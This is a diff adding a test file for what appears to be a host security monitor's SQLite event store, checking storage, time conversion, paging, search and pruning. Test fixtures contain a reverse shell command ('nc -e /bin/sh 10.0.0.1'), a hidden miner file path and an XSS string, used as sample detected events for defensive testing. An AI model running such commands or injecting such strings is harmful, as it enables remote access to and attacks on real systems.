@@ -1,0 +1,135 @@
+import { eventTypes, type VigilEvent, vigilEventSchema } from "@vigil/events";
+import { validEvent } from "@vigil/events/fixtures";
+import { afterEach, describe, expect, it } from "vitest";
+import { testStore } from "../test-store";
+import { queryEvents } from "./query";
+import { pruneEvents } from "./retention";
+import { nsToTime, timeToNs } from "./time";
+import { EventWriter } from "./writer";
+
+let cleanup = () => {};
+afterEach(() => cleanup());
+
+function setup() {
+  const t = testStore();
+  cleanup = t.cleanup;
+  const writer = new EventWriter(t.store.sqlite);
+  const insert = (events: VigilEvent[]) =>
+    t.store.sqlite.transaction(() => {
+      for (const e of events) writer.insert(t.hostId, e);
+    })();
+  const all = () => queryEvents(t.store.sqlite, {}, { order: "asc", limit: 1_000_000 }).events;
+  return { ...t, writer, insert, all };
+}
+
+const event = (type: (typeof eventTypes)[number], changes: Record<string, unknown> = {}) =>
+  vigilEventSchema.parse({ ...validEvent(type), ...changes });
+
+describe("events in SQLite", () => {
+  it("reads back every event type exactly as it was written", () => {
+    const { insert, all } = setup();
+    const written = eventTypes.map((type) => event(type));
+    insert(written);
+    expect(all()).toEqual(written);
+  });
+
+  it("keeps optional members, policies, huge ids and hostile strings", () => {
+    const { insert, all } = setup();
+    const base = validEvent("exec") as { process: Record<string, unknown> };
+    const written = [
+      event("exec", {
+        id: "b00t-ffffffffffffffff-1-exec",
+        time: "2262-04-11T23:47:16.854775807Z",
+        verdict: "audit",
+        sensor: "lsm",
+        policy: { id: "protect", version: 3, rule: "no-curl" },
+        process: {
+          ...base.process,
+          argv: ["sh", "-c", "<script>alert(1)</script>\n\u0000\u001b[31m", "x".repeat(6000)],
+          cgroupId: "18446744073709551615",
+          containerId: "c0ffee",
+          sha256: "a".repeat(64),
+          exeDeleted: true,
+          memfd: true,
+        },
+        file: { path: "/memfd:x (deleted)", dev: 4294967295, inode: "18446744073709551615" },
+        script: { path: "/tmp/s.sh", interpreter: "/bin/sh" },
+        truncated: ["process.argv"],
+      }),
+      event("ptrace", { request: "PTRACE_POKEDATA", error: "EPERM" }),
+      event("unlink_running", { running: { pids: [] } }),
+    ];
+    insert(written);
+    expect(all()).toEqual([written[1], written[2], written[0]]); // in time order: the exec is in 2262
+  });
+
+  it("converts RFC 3339 times to nanoseconds and back, in UTC", () => {
+    expect(nsToTime(timeToNs("2026-11-28T22:09:18.123456789Z"))).toBe("2026-11-28T22:09:18.123456789Z");
+    expect(nsToTime(timeToNs("2026-11-29T00:09:18.000000001+02:00"))).toBe("2026-11-28T22:09:18.000000001Z");
+    expect(timeToNs("1970-01-01T00:00:01.000000002Z")).toBe(1_000_000_002n);
+    // A leap second (which no kernel clock reports) is stored as the second after it.
+    expect(nsToTime(timeToNs("2016-12-31T23:59:60.500000000Z"))).toBe("2017-01-01T00:00:00.500000000Z");
+  });
+
+  it("stores each program once however many events run it", () => {
+    const { store, insert } = setup();
+    insert(Array.from({ length: 50 }, (_, i) => event("fork", { id: `f${i}` })));
+    const count = (table: string) => store.sqlite.prepare(`SELECT count(*) FROM ${table}`).pluck().get();
+    expect(count("events")).toBe(50);
+    expect(count("programs")).toBe(2); // the process's program and its parent reference
+  });
+
+  it("pages through equal times with a keyset cursor, each event once, in order", () => {
+    const { insert, store } = setup();
+    const times = ["2026-11-28T22:00:00.000000000Z", "2026-11-28T22:00:01.000000000Z"];
+    insert(Array.from({ length: 250 }, (_, i) => event("exit", { id: `x${i}`, time: times[i % 2] })));
+    for (const order of ["asc", "desc"] as const) {
+      const seen: string[] = [];
+      let after: Parameters<typeof queryEvents>[2]["after"];
+      for (;;) {
+        const page = queryEvents(store.sqlite, {}, { order, limit: 40, after });
+        seen.push(...page.events.map((e) => `${e.time} ${e.id}`));
+        if (!page.next) break;
+        after = page.next;
+      }
+      expect(seen).toHaveLength(250);
+      expect(new Set(seen).size).toBe(250);
+      const sorted = [...seen].sort((a, b) => a.split(" ")[0]?.localeCompare(b.split(" ")[0] ?? "") ?? 0);
+      expect(seen.map((s) => s.split(" ")[0])).toEqual(
+        order === "asc" ? sorted.map((s) => s.split(" ")[0]) : sorted.map((s) => s.split(" ")[0]).reverse(),
+      );
+    }
+  });
+
+  it("finds events by any substring of argv, exe or file path, and filters combine", () => {
+    const { insert, store } = setup();
+    const base = validEvent("exec") as { process: Record<string, unknown> };
+    insert([
+      event("exec", { id: "a", process: { ...base.process, argv: ["nc", "-e", "/bin/sh", "10.0.0.1"] } }),
+      event("exec", { id: "b" }),
+      event("unlink_running", { id: "c", file: { path: "/dev/shm/.hidden-miner", dev: 1, inode: "2" } }),
+    ]);
+    const ids = (filter: Parameters<typeof queryEvents>[1]) =>
+      queryEvents(store.sqlite, filter, { order: "asc", limit: 10 }).events.map((e) => e.id);
+    expect(ids({ q: "-e /bin" })).toEqual(["a"]);
+    expect(ids({ q: "HIDDEN-min" })).toEqual(["c"]);
+    expect(ids({ q: "example.com" })).toEqual(["b", "c"]); // c's process is the fixture's curl
+    expect(ids({ q: "example.com", types: ["unlink_running"] })).toEqual(["c"]);
+    expect(ids({ q: "example.com", types: ["ptrace"] })).toEqual([]);
+    expect(ids({ q: '"quoted" OR x' })).toEqual([]);
+    expect(ids({ host: "web-1", pid: 4242 })).toEqual(["a", "b", "c"]);
+    expect(ids({ host: "web-2" })).toEqual([]);
+  });
+
+  it("prunes by age and then by count, oldest first", async () => {
+    const { insert, store, all } = setup();
+    const at = (s: number) => nsToTime(BigInt(s) * 1_000_000_000n);
+    insert(Array.from({ length: 30 }, (_, i) => event("exit", { id: `x${i}`, time: at(1000 + i) })));
+    const nowMs = 1030 * 1000;
+    expect(await pruneEvents(store.sqlite, { maxAgeMs: 20_000, maxEvents: 1000 }, nowMs, { batch: 4 })).toBe(
+      10,
+    );
+    expect(await pruneEvents(store.sqlite, { maxAgeMs: 20_000, maxEvents: 15 }, nowMs, { batch: 4 })).toBe(5);
+    expect(all().map((e) => e.id)).toEqual(Array.from({ length: 15 }, (_, i) => `x${i + 15}`));
+  });
+});
